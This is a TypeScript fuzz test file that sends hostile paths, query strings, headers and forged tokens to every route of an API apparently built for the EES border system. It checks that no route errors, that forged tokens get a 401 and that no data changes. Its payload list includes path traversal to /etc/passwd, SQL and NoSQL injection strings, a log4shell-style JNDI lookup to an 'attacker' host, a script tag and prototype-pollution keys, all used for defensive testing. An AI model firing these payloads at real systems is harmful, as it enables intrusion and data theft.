import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { ROUTES, type RouteDefinition } from '../../../functions/routes';
import { profilesOf } from '../../../functions/shared/auth/roles';
import type { TokenRequest } from '../../../local/auth/tokens';
import { forgedTokens } from '../../support/forged-tokens';
import { concretePath, dataDigests, inBatches, PATH_DEFAULTS, pathParameters } from '../../support/fuzz';
import { caller, platformContext } from '../../support/platform-context';

/**
 * Hostile paths, query strings and headers on every route of the route table (bodies:
 * fuzz-write-routes.test.ts). Deterministic: seeded, RUNS probes of each kind per route, plus every
 * forged token, which must get what no token gets (401; public routes ignore tokens). Requests carry a token of an admitted role, so they get past the gate to the
 * validation and the handler; a body route gets `{}`, which no body schema accepts, so nothing can
 * be written whatever the path or query.
 */
const context = platformContext();
const SEED = 20261128;
const RUNS = 30;
const CONCURRENCY = 8;

const claimsFor = (route: RouteDefinition): TokenRequest => ({
  userId: `fuzz-routes-${route.operationId}`,
  roles: [...route.roles],
  system: 'EES',
  authority: 'EES:DE',
  memberState: 'DE',
  // one the route's roles admit (a profile they do not admit would be refused before the route is reached)
  profile: profilesOf(route.roles)[0],
});

const hostileText = fc.constantFrom(
  '..',
  '../../../../etc/passwd',
  '..%2F..%2Fetc%2Fpasswd',
  '%2e%2e%2f%2e%2e%2f',
  '..\\..\\windows\\win.ini',
  '%00',
  '\u0000',
  '%',
  '%zz',
  '%E0%A4%A',
  '%C0%AF',
  '\u202eevil',
  '\u200b',
  'Ω≈ç√∫',
  '👩‍👩‍👧‍👦',
  '\ud800',
  "' OR '1'='1",
  '"; DROP TABLE x; --',
  '{"$gt":""}',
  'attribute_exists(pk)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a log4shell-style lookup, sent as it is
  '${jndi:ldap://attacker/a}',
  '<script>alert(1)</script>',
  '__proto__',
  'constructor',
  'FILE#EES#fuzz-target',
  'LINK#lnk-0',
  'SHARD#0',
  '-1',
  '1e309',
  'NaN',
  ' ',
  '',
);
const hostileValue = fc.oneof(
  hostileText,
  fc.string({ unit: 'binary', maxLength: 200 }),
  fc.string({ unit: 'grapheme', maxLength: 50 }),
  fc.integer({ min: 1_000, max: 12_000 }).map((n) => 'A'.repeat(n)),
);

/** encodeURIComponent, or the text itself where it holds a lone surrogate (which cannot be encoded). */
const encoded = (text: string) => {
  try {
    return encodeURIComponent(text);
  } catch {
    return text;
  }
};

interface Probe {
  what: string;
  path: string;
  headers?: Record<string, string>;
}

/** One path parameter (or a suffix on routes without one) replaced, raw, encoded or encoded twice. */
function pathProbes(route: RouteDefinition, seed: number): Probe[] {
  const params = pathParameters(route);
  const probe = fc
    .record({
      param: params.length ? fc.constantFrom(...params) : fc.constant(undefined),
      value: hostileValue,
      encoding: fc.constantFrom('raw', 'encoded', 'twice'),
    })
    .map(({ param, value, encoding }): Probe => {
      const text =
        encoding === 'raw' ? value : encoding === 'encoded' ? encoded(value) : encoded(encoded(value));
      return {
        what: `path ${param ?? 'suffix'}=${JSON.stringify(value.slice(0, 60))} ${encoding}`,
        path: param ? concretePath(route, { [param]: text }) : `${route.path}/${text}`,
      };
    });
  return fc.sample(probe, { numRuns: RUNS, seed });
}

/** Unknown, repeated, huge and injection-looking query parameters, and the route's own ones with hostile values. */
function queryProbes(route: RouteDefinition, seed: number): Probe[] {
  const known = Object.keys(route.request.query?.shape ?? {});
  const key = fc.oneof(
    fc.constantFrom(...known, '__proto__', 'constructor', 'limit', 'cursor', 'a[b]', 'a.b', '$where', ''),
    fc.string({ maxLength: 20 }),
  );
  const probe = fc
    .record({
      pairs: fc.array(fc.tuple(key, hostileValue), { minLength: 1, maxLength: 5 }),
      repeat: fc.boolean(),
    })
    .map(({ pairs, repeat }): Probe => {
      const all = repeat ? [...pairs, ...pairs] : pairs;
      const search = new URLSearchParams();
      for (const [name, value] of all) search.append(name, value);
      return {
        what: `query ${JSON.stringify(all.map(([n, v]) => [n.slice(0, 30), v.slice(0, 40)]))}`,
        path: `${concretePath(route)}?${search}`,
      };
    });
  return fc.sample(probe, { numRuns: RUNS, seed });
}

const CONTENT_TYPE_LIES = [
  'text/plain',
  'application/xml',
  'application/x-www-form-urlencoded',
  'multipart/form-data; boundary=----x',
  'application/json; charset=utf-16',
  'application/json; charset=EBCDIC',
  'application/json, text/html',
  '*/*',
  'application/octet-stream',
];
const FORBIDDEN_HEADERS = new Set([
  'host',
  'content-length',
  'connection',
  'transfer-encoding',
  'keep-alive',
  'upgrade',
  'expect',
  'te',
  'trailer',
  'authorization',
  'content-type',
]);
const headerName = fc
  .oneof(
    fc.constantFrom(
      'x-forwarded-for',
      'x-request-id',
      'x-amzn-trace-id',
      'cookie',
      'accept',
      'origin',
      'x-api-key',
    ),
    fc.stringMatching(/^[a-z][a-z0-9-]{0,30}$/),
  )
  .filter((name) => !FORBIDDEN_HEADERS.has(name));
// What fetch lets through: visible ASCII and latin-1, no leading or trailing white space.
const headerValue = fc
  .oneof(
    hostileValue,
    fc.integer({ min: 4_000, max: 20_000 }).map((n) => 'x'.repeat(n)),
  )
  .map((value) => value.replace(/[^\x21-\x7e\x80-\xff ]/g, '').trim());

/** Lying content types, forged proxy and tracing headers, huge headers; the bearer token stays valid. */
function headerProbes(route: RouteDefinition, seed: number): Probe[] {
  const probe = fc
    .record({
      contentType: fc.constantFrom(...CONTENT_TYPE_LIES),
      extra: fc.dictionary(headerName, headerValue, { maxKeys: 4 }),
    })
    .map(
      ({ contentType, extra }): Probe => ({
        what: `headers content-type ${contentType}, ${JSON.stringify(Object.entries(extra).map(([n, v]) => [n, v.length]))}`,
        path: concretePath(route),
        headers: { ...extra, 'content-type': contentType },
      }),
    );
  return fc.sample(probe, { numRuns: RUNS, seed });
}

async function send(
  route: RouteDefinition,
  probe: Probe,
  authorization: string,
): Promise<string | undefined> {
  try {
    const response = await fetch(`${context.url}${probe.path}`, {
      method: route.method,
      headers: { 'content-type': 'application/json', ...probe.headers, authorization },
      body: route.request.body ? '{}' : undefined,
    });
    await response.text();
    return response.status >= 500 ? `${response.status} for ${probe.what}` : undefined;
  } catch (error) {
    return `no reply (${(error as Error).message}) for ${probe.what}`;
  }
}

describe('fuzzing every route with hostile paths, query strings and headers', () => {
  it('no body schema accepts the placeholder body `{}` (so no fuzzed request can write)', () => {
    for (const route of ROUTES.filter((r) => r.request.body))
      expect(route.request.body?.safeParse({}).success, route.operationId).toBe(false);
  });

  it('has a valid default for every path parameter (a new parameter needs one in PATH_DEFAULTS)', () => {
    for (const route of ROUTES.filter((r) => r.request.path)) {
      const values = Object.fromEntries(pathParameters(route).map((name) => [name, PATH_DEFAULTS[name]]));
      expect(route.request.path?.safeParse(values).success, route.operationId).toBe(true);
    }
  });

  it.each(ROUTES.map((route, i) => [route.operationId, route, i] as const))(
    `%s: ${RUNS} paths, ${RUNS} query strings, ${RUNS} header sets: no 5xx; forged tokens get what no token gets; no data table changed`,
    async (_name, route, i) => {
      const claims = claimsFor(route);
      const client = await caller(context, claims.roles, claims);
      const before = await dataDigests(context);

      const probes = [
        ...pathProbes(route, SEED + i),
        ...queryProbes(route, SEED + 1_000 + i),
        ...headerProbes(route, SEED + 2_000 + i),
      ];
      const failures = await inBatches(probes, CONCURRENCY, (probe) =>
        send(route, probe, `Bearer ${client.token}`),
      );
      expect(failures.filter(Boolean)).toEqual([]);
      expect(failures).toHaveLength(3 * RUNS);

      const forged = Object.entries(await forgedTokens(context.keyDir, claims));
      const authorisations = [
        ...forged.map(([what, token]) => [`token ${what}`, `Bearer ${token}`] as const),
        ['two tokens', `Bearer ${client.token} Bearer ${client.token}`] as const,
        ['basic scheme', `Basic ${Buffer.from('admin:admin').toString('base64')}`] as const,
        ['token without scheme', client.token] as const,
      ];
      const statusWith = async (authorization?: string) => {
        const response = await fetch(`${context.url}${concretePath(route)}`, {
          method: route.method,
          headers: { ...(authorization ? { authorization } : {}), 'content-type': 'application/json' },
          body: route.request.body ? '{}' : undefined,
        });
        await response.text();
        return response.status;
      };
      const statuses = await inBatches(
        [['no token', undefined] as const, ...authorisations],
        CONCURRENCY,
        async ([what, authorization]) => `${what}: ${await statusWith(authorization)}`,
      );
      if (route.public) {
        // A public route never reads a token (and its rate limit may answer 429): no 5xx is all there is.
        expect(statuses.filter((status) => Number(status.split(': ')[1]) >= 500)).toEqual([]);
      } else {
        // A forged token gets what no token gets: 401.
        expect(statuses).toEqual(
          ['no token', ...authorisations.map(([what]) => what)].map((w) => `${w}: 401`),
        );
      }

      expect(await dataDigests(context)).toEqual(before);
    },
    300_000,
  );
});
